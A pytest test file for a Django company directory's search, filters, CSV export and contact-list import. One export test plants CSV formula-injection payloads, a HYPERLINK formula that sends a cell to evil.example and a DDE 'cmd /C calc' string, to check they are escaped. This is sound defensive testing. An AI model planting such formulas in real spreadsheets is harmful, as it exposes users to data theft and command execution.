"""The directory for the city: search, filters, CSV export and the contact list import."""

import random
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from hypothesis import given, settings
from hypothesis import strategies as st

from accounts.models import User
from companies.csv_files import contact_list_read
from companies.models import (
    Company,
    CompanyMembership,
    CompanySize,
    Contact,
    MembershipStatus,
)
from companies.services import contact_list_import
from companies.templatetags.directory_tags import directory_rows
from companies.tests.factories import (
    CompanyFactory,
    CompanyMemberFactory,
    ContactFactory,
    MembershipFactory,
)
from core.tests.rows import render_before, tags_apart, typed
from missions.models import Sector
from missions.tests.factories import SectorFactory

pytestmark = pytest.mark.django_db

LIST = reverse("companies:list")
EXPORT = reverse("companies:export")
IMPORT = reverse("companies:import")
SIRET_A = "73282932000074"  # valid
SIRET_B = "35600000000048"  # valid (La Poste's head office)
SIRET_BAD = "12345678901234"


@pytest.fixture
def sectors():
    return {
        "maritime": SectorFactory(code="maritime", name_fr="Maritime", name_en="Maritime"),
        "digital": SectorFactory(code="digital", name_fr="Numérique", name_en="Digital"),
    }


@pytest.fixture
def directory(sectors):
    """Three companies that differ on each filter."""
    transpare = CompanyFactory(
        name="Transpare", siret=SIRET_A, city="Marseille", size="small", verified=True
    )
    transpare.sectors.set([sectors["maritime"]])
    CompanyMemberFactory(email="ali@transpare.example", membership__company=transpare)
    protecto = CompanyFactory(
        name="Protécto", siret=SIRET_B, city="Aubagne", size="medium", verified=False
    )
    protecto.sectors.set([sectors["digital"]])
    ContactFactory(company=protecto, email="lea@protecto.example")
    calanques = CompanyFactory(name="Calanques Bio", city="Cassis", size="micro", verified=True)
    return {"transpare": transpare, "protecto": protecto, "calanques": calanques}


def _names(response):
    return [company["name"] for company in response.context["companies"]]


# The list ----------------------------------------------------------------------------


def test_directory_lists_every_company_by_name(client, staff_user, directory):
    client.force_login(staff_user)

    assert _names(client.get(LIST)) == ["Calanques Bio", "Protécto", "Transpare"]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"search": "transp"}, ["Transpare"]),
        ({"search": "aubagne"}, ["Protécto"]),
        ({"search": "732 829 320"}, ["Transpare"]),
        ({"search": "ali@transpare"}, ["Transpare"]),
        ({"search": "lea@protecto"}, ["Protécto"]),
        ({"size": "micro"}, ["Calanques Bio"]),
        ({"city": "Aubagne"}, ["Protécto"]),
        ({"verified": "yes"}, ["Calanques Bio", "Transpare"]),
        ({"verified": "no"}, ["Protécto"]),
    ],
)
def test_directory_filters(client, staff_user, directory, params, expected):
    client.force_login(staff_user)

    assert _names(client.get(LIST, params)) == expected


def test_directory_sector_filter(client, staff_user, directory, sectors):
    client.force_login(staff_user)

    response = client.get(LIST, {"sector": sectors["digital"].pk})

    assert _names(response) == ["Protécto"]


def test_directory_paginated_by_25(client, staff_user):
    CompanyFactory.create_batch(26)
    client.force_login(staff_user)

    response = client.get(LIST)

    assert len(response.context["companies"]) == 25
    assert response.context["paginator"].num_pages == 2


def test_directory_official_reads_without_export_or_import(client, official_user, directory):
    client.force_login(official_user)

    response = client.get(LIST)

    assert response.status_code == 200
    assert (response.context["can_export"], response.context["can_import"]) == (False, False)
    assert EXPORT not in response.content.decode()
    assert IMPORT not in response.content.decode()


@pytest.mark.parametrize("count", [1, 25])
def test_directory_query_count_constant(
    client, staff_user, sectors, django_assert_num_queries, count
):
    for company in CompanyFactory.create_batch(count):
        company.sectors.set([sectors["maritime"]])
        MembershipFactory(company=company)
    client.force_login(staff_user)

    # Session, user with its groups, the city choices, count, companies, their sectors, their
    # members, and the sector choices of the filter form.
    with django_assert_num_queries(8):
        response = client.get(LIST)

    assert len(response.context["companies"]) == count


# Export ------------------------------------------------------------------------------


def test_export_filtered_list_exact_content(client, staff_user, directory):
    MembershipFactory(
        company=directory["transpare"],
        user__email="zoe@transpare.example",
        status=MembershipStatus.PENDING,
    )
    directory["transpare"].website = "https://transpare.example"
    directory["transpare"].save()
    client.force_login(staff_user)

    response = client.get(EXPORT, {"city": "Marseille"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="companies.csv"'
    assert response.content.decode("utf-8") == (
        "\ufeffname;siret;city;size;sectors;verified;website;members_emails\r\n"
        "Transpare;73282932000074;Marseille;small;maritime;yes;"
        "https://transpare.example;ali@transpare.example\r\n"
    )


def test_export_accents_and_sectors(client, staff_user, directory, sectors):
    directory["protecto"].sectors.add(sectors["maritime"])
    client.force_login(staff_user)

    response = client.get(EXPORT, {"search": "Protécto"})

    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[1] == "Protécto;35600000000048;Aubagne;medium;digital|maritime;no;;"


def test_export_writes_formulas_as_text_and_keeps_telephones(client, staff_user, directory):
    Company.objects.filter(pk=directory["transpare"].pk).update(
        name='=HYPERLINK("http://evil.example/?x="&A1,"x")',
        city="+33 cmd|' /C calc'!A0",
        website="+33 4 91 00 00 00",
    )
    client.force_login(staff_user)

    response = client.get(EXPORT, {"verified": "yes", "size": "small"})

    assert response.content.decode("utf-8-sig").split("\r\n")[1] == (
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")";73282932000074;'
        "'+33 cmd\\|' /C calc'!A0;small;maritime;yes;+33 4 91 00 00 00;ali@transpare.example"
    )


@pytest.mark.parametrize("count", [1, 30])
def test_export_in_fixed_queries(client, staff_user, sectors, django_assert_num_queries, count):
    for company in CompanyFactory.create_batch(count):
        company.sectors.set([sectors["maritime"], sectors["digital"]])
        MembershipFactory(company=company)
    client.force_login(staff_user)

    # Session, user with its groups (the permission), the cities the filter accepts, the companies,
    # their sectors, their members.
    with django_assert_num_queries(6):
        response = client.get(EXPORT)

    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 1 + count
    assert all(";digital|maritime;" in line for line in lines[1:])


@pytest.mark.parametrize(("fixture", "status"), [("official_user", 404), ("company_member", 404)])
def test_export_refused_to_others(client, directory, fixture, status, request):
    client.force_login(request.getfixturevalue(fixture))

    response = client.get(EXPORT)

    assert response.status_code == status
    assert "Transpare" not in response.content.decode()


# Import ------------------------------------------------------------------------------

HEADER = "company_name;siret;city;sectors;first_name;last_name;email;language\r\n"


def _csv(*lines, header=HEADER, encoding="utf-8-sig") -> bytes:
    return (header + "".join(line + "\r\n" for line in lines)).encode(encoding)


def _post(client, data: bytes, verified=False, **headers):
    upload = SimpleUploadedFile("contacts.csv", data, content_type="text/csv")
    payload = {"file": upload}
    if verified:
        payload["verified"] = "on"
    return client.post(IMPORT, payload, **headers)


def test_read_reports_every_bad_row_with_its_line(sectors):
    data = _csv(
        f"Transpare;{SIRET_A};Marseille;maritime;Ali;Messoudi;ali@transpare.example;fr",
        f"Protecto;{SIRET_BAD};Aubagne;digital;Léa;Durand;lea@protecto.example;en",
        f"Protecto;{SIRET_B};Aubagne;space;Léa;Durand;;en",
        f"Transpare;{SIRET_A};Marseille;;Ali;Messoudi;ALI@transpare.example;de",
        f"{'x' * 201};{SIRET_B};;;Jo;;jo@protecto.example;",
    )

    _rows, errors = contact_list_read(data)

    assert [(e.line, e.column, e.message) for e in errors] == [
        (3, "siret", "« 12345678901234 » n'est pas un SIRET valide."),
        (4, "sectors", "Code de secteur inconnu « space »."),
        (4, "email", "L'adresse e-mail du contact manque."),
        (5, "language", "Langue inconnue « de » : indiquez fr ou en."),
        (5, "email", "Le même contact de la même entreprise figure déjà à la ligne 2."),
        (6, "company_name", "Le nom de l'entreprise dépasse 200 caractères."),
        (6, "last_name", "Le nom du contact manque."),
    ]


def test_import_with_any_bad_row_imports_nothing_and_shows_report(client, staff_user, sectors):
    client.force_login(staff_user)
    data = _csv(
        f"Transpare;{SIRET_A};Marseille;maritime;Ali;Messoudi;ali@transpare.example;fr",
        f"Protecto;{SIRET_B};Aubagne;digital;Léa;Durand;;en",
    )

    response = _post(client, data)

    assert response.status_code == 200
    assert [(e.line, e.column) for e in response.context["errors"]] == [(3, "email")]
    assert escape("L'adresse e-mail du contact manque.") in response.content.decode()
    assert Company.objects.count() == 0
    assert Contact.objects.count() == 0


def test_import_creates_and_updates_by_siret_and_email(client, staff_user, sectors):
    existing = CompanyFactory(name="Transpare ancien", siret=SIRET_A, verified=True)
    ContactFactory(company=existing, email="ali@transpare.example", first_name="A")
    client.force_login(staff_user)
    data = _csv(
        f"Transpare;{SIRET_A};Marseille;maritime;Ali;Messoudi;ALI@transpare.example;en",
        f"Protécto;{SIRET_B.replace('0000', '0000 ', 1)};Aubagne;digital|maritime;Léa;Durand;"
        "lea@protecto.example;",
        f"Protécto;{SIRET_B};Aubagne;;Jo;Martin;jo@protecto.example;en",
    )

    response = _post(client, data)

    assert response["Location"] == LIST
    existing.refresh_from_db()
    assert (existing.name, existing.city, existing.verified) == ("Transpare", "Marseille", True)
    ali = existing.contacts.get()
    assert (ali.first_name, ali.email, ali.language) == ("Ali", "ali@transpare.example", "en")
    protecto = Company.objects.get(siret=SIRET_B)
    assert (protecto.name, protecto.verified) == ("Protécto", False)
    assert sorted(s.code for s in protecto.sectors.all()) == ["digital", "maritime"]
    assert sorted(protecto.contacts.values_list("email", "language")) == [
        ("jo@protecto.example", "en"),
        ("lea@protecto.example", "fr"),
    ]


def test_import_one_contact_whatever_the_case_of_its_email(staff_user, sectors):
    company = CompanyFactory(name="Transpare", siret=SIRET_A)
    ContactFactory(company=company, email="ali@transpare.example", first_name="A")
    rows, errors = contact_list_read(
        _csv(f"Transpare;{SIRET_A};Marseille;;Ali;Messoudi;Ali@Transpare.Example;fr")
    )
    assert errors == []

    summary = contact_list_import(rows=rows, by=staff_user)

    assert (summary.contacts_created, summary.contacts_updated) == (0, 1)
    assert list(company.contacts.values_list("email", "first_name")) == [
        ("ali@transpare.example", "Ali")
    ]


def test_import_verified_box_verifies_new_companies(staff_user, sectors):
    rows, errors = contact_list_read(
        _csv(f"Protecto;{SIRET_B};Aubagne;;Léa;Durand;lea@protecto.example;fr")
    )
    assert errors == []

    summary = contact_list_import(rows=rows, by=staff_user, verified=True)

    company = Company.objects.get()
    assert (company.verified, company.verified_by) == (True, staff_user)
    assert (summary.companies_created, summary.contacts_created) == (1, 1)


def test_import_comma_separated_windows_1252_file(client, staff_user, sectors):
    client.force_login(staff_user)
    data = _csv(
        f"Protécto,{SIRET_B},Aubagne,,Léa,Durand,lea@protecto.example,fr",
        header=HEADER.replace(";", ","),
        encoding="cp1252",
    )

    response = _post(client, data)

    assert response.status_code == 302
    assert Company.objects.get().name == "Protécto"


def test_import_missing_columns_reported(client, staff_user):
    client.force_login(staff_user)

    response = _post(client, b"name;email\r\nTranspare;a@b.example\r\n")

    assert [(e.line, e.message) for e in response.context["errors"]] == [
        (1, "Colonnes manquantes : company_name, siret, first_name, last_name.")
    ]


NOT_CSV = {
    "random-bytes": (
        random.Random(7).randbytes(200 * 1024),
        "This file is not a CSV text file: save it from your spreadsheet as “CSV UTF-8 "
        "(comma delimited)” and try again.",
    ),
    "nul": (
        _csv(f"Protecto;{SIRET_B};Aubagne;;Léa;Du\x00rand;lea@protecto.example;fr"),
        "This file is not a CSV text file: save it from your spreadsheet as “CSV UTF-8 "
        "(comma delimited)” and try again.",
    ),
    "huge-cell": (
        _csv(f"Protecto;{SIRET_B};{'A' * 131_073};;Léa;Durand;lea@protecto.example;fr"),
        "A cell of the file holds more than 100,000 characters.",
    ),
}


@pytest.mark.parametrize("case", NOT_CSV)
def test_import_of_a_file_that_is_not_csv_text_says_so_and_imports_nothing(
    client, staff_user, sectors, case
):
    raw, sentence = NOT_CSV[case]
    client.force_login(staff_user)
    client.cookies["django_language"] = "en"

    response = _post(client, raw, verified=True)

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [sentence]
    assert response.context["form"]["verified"].value() is True
    assert Company.objects.count() == 0


@pytest.mark.parametrize("fixture", ["official_user", "company_member"])
def test_import_refused_to_others(client, sectors, fixture, request):
    client.force_login(request.getfixturevalue(fixture))

    response = _post(
        client, _csv(f"Protecto;{SIRET_B};Aubagne;;Léa;Durand;lea@protecto.example;fr")
    )

    assert response.status_code == 404
    assert Company.objects.filter(siret=SIRET_B).count() == 0


def test_import_job_title_and_phone_kept_when_the_cell_is_empty(staff_user, sectors):
    existing = CompanyFactory(name="Transpare", siret=SIRET_A)
    ContactFactory(
        company=existing, email="ali@transpare.example", job_title="CEO", phone="0491000000"
    )
    data = _csv(
        f"Transpare;{SIRET_A};Marseille;;Ali;Messoudi;ali@transpare.example;fr;;0612345678",
        f"Transpare;{SIRET_A};Marseille;;Léa;Durand;lea@transpare.example;fr;Export;",
        header=HEADER.rstrip("\r\n") + ";job_title;phone\r\n",
    )
    rows, errors = contact_list_read(data)
    assert errors == []

    contact_list_import(rows=rows, by=staff_user)

    assert sorted(existing.contacts.values_list("email", "job_title", "phone")) == [
        ("ali@transpare.example", "CEO", "0612345678"),
        ("lea@transpare.example", "Export", ""),
    ]


def test_read_reports_an_over_long_job_title_or_phone(sectors):
    data = _csv(
        f"Transpare;{SIRET_A};Marseille;;Ali;Messoudi;ali@transpare.example;fr;{'x' * 151};"
        + "0" * 31,
        header=HEADER.rstrip("\r\n") + ";job_title;phone\r\n",
    )

    _rows, errors = contact_list_read(data)

    assert [(e.line, e.column, e.message) for e in errors] == [
        (2, "job_title", "150 caractères au plus (celle-ci en a 151)."),
        (2, "phone", "30 caractères au plus (celle-ci en a 31)."),
    ]


DIRECTORY_ROWS_BEFORE = Path(__file__).parent / "directory_rows_before.html"


@st.composite
def _directory_page(draw):
    """The same page as model objects (what the template read) and as the rows
    ``directory_page`` gives the tag (their sectors named in the page's language)."""
    companies, rows = [], []
    for pk in range(1, draw(st.integers(0, 4)) + 1):
        values = {
            "pk": pk,
            "name": draw(typed()),
            "siret": draw(st.one_of(st.just(""), typed(14))),
            "city": draw(typed()),
            "size": draw(st.sampled_from(["", *CompanySize.values])),
            "verified": draw(st.booleans()),
        }
        sectors = [
            Sector(pk=number, code=f"s{number}", name_fr=draw(typed()), name_en=draw(typed()))
            for number in range(draw(st.integers(0, 3)))
        ]
        emails = draw(st.lists(typed(), max_size=3))
        company = Company(**values)
        company._prefetched_objects_cache = {"sectors": sectors}
        company.active_memberships = [
            CompanyMembership(user=User(email=email)) for email in emails
        ]
        companies.append(company)
        rows.append({**values, "sectors": sectors, "emails": emails})
    return companies, rows


@pytest.mark.django_db(databases=[])
@given(page=_directory_page(), language=st.sampled_from(["fr", "en"]))
@settings(max_examples=60, deadline=None)
def test_directory_rows_write_what_the_template_wrote(page, language):
    companies, rows = page
    with translation.override(language):
        expected = render_before(DIRECTORY_ROWS_BEFORE, {"companies": companies})
        written = directory_rows(
            [{**row, "sectors": [str(s) for s in row["sectors"]]} for row in rows]
        )

    assert tags_apart(written) == tags_apart(expected)
